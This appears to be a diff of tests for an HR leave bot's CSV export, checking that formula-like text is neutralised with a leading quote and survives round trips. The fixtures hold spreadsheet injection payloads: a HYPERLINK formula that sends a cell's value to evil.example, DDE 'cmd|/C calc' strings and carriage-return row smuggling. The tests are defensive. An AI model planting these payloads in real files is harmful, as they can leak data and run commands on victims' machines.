@@ -4,6 +4,9 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
+import re
 from datetime import date
 from decimal import Decimal
 from pathlib import Path
@@ -15,9 +18,9 @@ from sqlalchemy.ext.asyncio import AsyncEngine
 
 from bot.db.tables import employees, leave_grants, leave_records
 from bot.hr.exporter import check_data, export_data
-from bot.hr.importer import ImportRefused, ImportSummary, import_files
+from bot.hr.importer import EMPLOYEE_COLUMNS, LEAVE_COLUMNS, ImportRefused, ImportSummary, import_files
 from bot.hr.ports import Balance, LeaveRecord, UnknownEmployee
-from bot.hr.sql import SqlHrStore
+from bot.hr.sql import SqlHrStore, email_key
 from tests.support.database import ScratchDatabase, make_test_database, release_test_database
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -51,6 +54,11 @@ async def exported(
 ) -> dict[str, str]:
     paths = await export_data(engine, directory, fmt)
     return {path.name: path.read_text(encoding="utf-8") for path in paths}
+
+
+async def exported_bytes(engine: AsyncEngine, directory: Path) -> dict[str, bytes]:
+    """The CSV files exactly as written (read_text would turn a carriage return in a cell into a line feed)."""
+    return {path.name: path.read_bytes() for path in await export_data(engine, directory)}
 
 
 async def refused(engine: AsyncEngine, paths: list[Path], **options: bool) -> list[str]:
@@ -414,6 +422,210 @@ async def test_export_import_export_is_lossless(database: ScratchDatabase, tmp_p
     )
     csv_grants = (tmp_path / "csv" / "first" / "grants.csv").read_text("utf-8")
     assert csv_grants.splitlines()[1] == "E1001,2025,15,11.5,false"
+
+
+# Text a spreadsheet would run as a formula, in every free-text column (an employee id may begin with
+# '-'), and text that begins with a quote. The importer strips surrounding whitespace, so the leading tab
+# and carriage return go straight into the tables, as HR's own tooling could write them.
+HYPERLINK = '=HYPERLINK("http://evil.example/"&A1,"click")'
+FORMULA_EMPLOYEES = [
+    ("F1", HYPERLINK, "=f1@evil.example"),
+    ("F2", "+cmd|' /C calc'!A0", "+f2@example.com"),
+    ("-cmd", "-2+3", "-f3@example.com"),
+    ("F4", "@SUM(1+1)*cmd|' /C calc'!A0", "@f4.example"),
+    ("F5", "'Ollie", "'ollie@example.com"),
+    ("F8", "-1.5", "f8@example.com"),  # a plain number: a spreadsheet reads it as one, not as a formula
+]
+FORMULA_NOTES = ["=1+1", "+1", "-1-1", "@A1", "'quoted", "-0.5"]
+WRITTEN_BY_OTHER_TOOLS = [("F6", "\t=1+1", "\tf6@example.com"), ("F7", "\r=1+1", "\rf7@example.com")]
+# A carriage return anywhere must be quoted, or a spreadsheet starts a new row (here: `=2+2`) there.
+NOTES_WRITTEN_BY_OTHER_TOOLS = ["\t-1", "\r@A1", "ok\r=2+2"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_text(rows: list[tuple[str, ...]]) -> str:
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows(rows)
+    return out.getvalue()
+
+
+async def store_formula_like_text(engine: AsyncEngine, directory: Path) -> None:
+    people = write(
+        directory,
+        "people.csv",
+        csv_text([EMPLOYEE_COLUMNS, *((*row, "", "", "true") for row in FORMULA_EMPLOYEES)]),
+    )
+    ids = [row[0] for row in FORMULA_EMPLOYEES] + [row[0] for row in WRITTEN_BY_OTHER_TOOLS]
+    grants = write(
+        directory,
+        "grants.csv",
+        csv_text([("employee_id", "year", "granted"), ("-cmd", "2026", "1"), ("F1", "2026", "15")]),
+    )
+    await import_files(engine, [people, grants])
+    leave = write(
+        directory,
+        "leave.csv",
+        csv_text(
+            [
+                LEAVE_COLUMNS,
+                ("-cmd", "2026-01-01", "1", "annual", ""),
+                *(
+                    ("F1", f"2026-01-{day:02}", "0.5", "annual", note)
+                    for day, note in enumerate(FORMULA_NOTES, 1)
+                ),
+            ]
+        ),
+    )
+    await import_files(engine, [leave])
+    async with engine.begin() as connection:
+        await connection.execute(
+            insert(employees),
+            [
+                {
+                    "employee_id": employee_id,
+                    "name": name,
+                    "email": email,
+                    "email_key": email_key(email),
+                    "active": True,
+                }
+                for employee_id, name, email in WRITTEN_BY_OTHER_TOOLS
+            ],
+        )
+        await connection.execute(
+            insert(leave_records),
+            [
+                {
+                    "employee_id": "F1",
+                    "taken_on": date(2026, 2, day),
+                    "days": Decimal(1),
+                    "leave_type": "sick",
+                    "note": note,
+                }
+                for day, note in enumerate(NOTES_WRITTEN_BY_OTHER_TOOLS, 1)
+            ],
+        )
+    people_rows, _, _ = await stored_rows(engine)
+    assert [row[0] for row in people_rows] == sorted(ids)
+
+
+async def stored_rows(engine: AsyncEngine) -> tuple[list[tuple[object, ...]], ...]:
+    """Every employee, grant and leave record as stored (a record without its generated id)."""
+    async with engine.connect() as connection:
+        people = await connection.execute(select(employees).order_by(employees.c.employee_id))
+        grants = await connection.execute(
+            select(leave_grants).order_by(leave_grants.c.employee_id, leave_grants.c.year)
+        )
+        columns = [column for column in leave_records.c if column.name != "id"]
+        records = await connection.execute(
+            select(*columns).order_by(
+                leave_records.c.employee_id, leave_records.c.taken_on, leave_records.c.id
+            )
+        )
+        return [tuple(row) for row in people], [tuple(row) for row in grants], [tuple(row) for row in records]
+
+
+def csv_cells(directory: Path) -> list[str]:
+    cells: list[str] = []
+    for name in ("employees.csv", "grants.csv", "leave.csv"):
+        with (directory / name).open(encoding="utf-8", newline="") as file:
+            cells.extend(cell for row in csv.reader(file) for cell in row)
+    return cells
+
+
+async def test_csv_export_writes_no_cell_a_spreadsheet_would_run(
+    database: ScratchDatabase, tmp_path: Path
+) -> None:
+    await store_formula_like_text(database.engine, tmp_path)
+    async with database.engine.begin() as connection:  # a negative amount, as another tool could store it
+        await connection.execute(
+            insert(leave_grants),
+            [
+                {
+                    "employee_id": "F1",
+                    "year": 2025,
+                    "granted": Decimal(1),
+                    "opening_used": Decimal("-1.5"),
+                    "allow_negative": True,
+                }
+            ],
+        )
+    files = {
+        name: data.decode("utf-8")
+        for name, data in (await exported_bytes(database.engine, tmp_path / "out")).items()
+    }
+    cells = csv_cells(tmp_path / "out")
+    # No cell begins with a formula character, except a plain number; a leading quote is always the
+    # added one (before a formula character or another quote).
+    formulas = [
+        cell
+        for cell in cells
+        if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)
+    ]
+    assert formulas == []
+    assert [
+        cell for cell in cells if cell.startswith("'") and not cell[1:].startswith((*FORMULA_STARTS, "'"))
+    ] == []
+    employees_csv = files["employees.csv"].split("\n")  # a cell holds a \r
+    assert (
+        'F1,"\'=HYPERLINK(""http://evil.example/""&A1,""click"")",\'=f1@evil.example,,,true' in employees_csv
+    )
+    assert "F5,''Ollie,''ollie@example.com,,,true" in employees_csv
+    assert "F8,-1.5,f8@example.com,,,true" in employees_csv
+    assert "'-cmd,'-2+3,'-f3@example.com,,,true" in employees_csv
+    assert "F6,'\t=1+1,'\tf6@example.com,,,true" in employees_csv
+    assert 'F7,"\'\r=1+1","\'\rf7@example.com",,,true' in employees_csv
+    assert files["grants.csv"].splitlines()[1:] == [
+        "'-cmd,2026,1,0,false",
+        "F1,2025,1,-1.5,true",
+        "F1,2026,15,0,false",
+    ]
+    leave_csv = files["leave.csv"].split("\n")
+    assert leave_csv[1:3] == ["'-cmd,2026-01-01,1,annual,", "F1,2026-01-01,0.5,annual,'=1+1"]
+    assert "F1,2026-01-06,0.5,annual,-0.5" in leave_csv and 'F1,2026-02-03,1,sick,"ok\r=2+2"' in leave_csv
+    # JSON is not opened by spreadsheets: written as the data is.
+    json_text = (await exported(database.engine, tmp_path / "json", "json"))["employees.json"]
+    assert '"name": "=HYPERLINK(\\"http://evil.example/\\"&A1,\\"click\\")"' in json_text
+    assert '"name": "\\t=1+1"' in json_text and '"name": "\'Ollie"' in json_text
+
+
+async def test_formula_like_text_survives_export_import_export(
+    database: ScratchDatabase, tmp_path: Path
+) -> None:
+    await store_formula_like_text(database.engine, tmp_path)
+    first = await exported_bytes(database.engine, tmp_path / "first")
+    (tmp_path / "second").mkdir()
+    second = await make_test_database(database.database.url.get_backend_name(), tmp_path / "second")
+    try:
+        await import_files(second.engine, sorted((tmp_path / "first").iterdir()))
+        assert await exported_bytes(second.engine, tmp_path / "again") == first
+        assert await stored_rows(second.engine) == await stored_rows(database.engine)
+        people, _, records = await stored_rows(second.engine)
+    finally:
+        await release_test_database(second)
+    names = {row[0]: row[1] for row in people}
+    assert names["F1"] == HYPERLINK and names["F5"] == "'Ollie" and names["F6"] == "\t=1+1"
+    assert names["F7"] == "\r=1+1" and names["-cmd"] == "-2+3" and names["F8"] == "-1.5"
+    assert [row[-1] for row in records if row[0] == "F1"] == [*FORMULA_NOTES, *NOTES_WRITTEN_BY_OTHER_TOOLS]
+
+
+async def test_a_hand_written_leading_quote_is_kept(database: ScratchDatabase, tmp_path: Path) -> None:
+    # (written by hand, stored, exported): only a quote before a formula character or another quote is
+    # taken for the exporter's; every stored text beginning with a quote is exported with one more.
+    cases = [
+        ("'Ollie", "'Ollie", "''Ollie"),
+        ("'1", "'1", "''1"),
+        ("'", "'", "''"),
+        ("'=1+1", "=1+1", "'=1+1"),
+        ("''Ollie", "'Ollie", "''Ollie"),
+        ("'-1.5", "-1.5", "-1.5"),
+        ("'\t@A1", "\t@A1", "'\t@A1"),
+    ]
+    rows = [(f"E{i}", written, f"e{i}@x.kr", "", "", "true") for i, (written, _, _) in enumerate(cases)]
+    await import_files(database.engine, [write(tmp_path, "people.csv", csv_text([EMPLOYEE_COLUMNS, *rows]))])
+    people, _, _ = await stored_rows(database.engine)
+    assert [row[1] for row in people] == [stored for _, stored, _ in cases]
+    lines = (await exported(database.engine, tmp_path / "out"))["employees.csv"].splitlines()
+    assert [line.split(",")[1] for line in lines[1:]] == [written_out for _, _, written_out in cases]
 
 
 async def test_check_data_reports_what_import_would_refuse(database: ScratchDatabase) -> None:
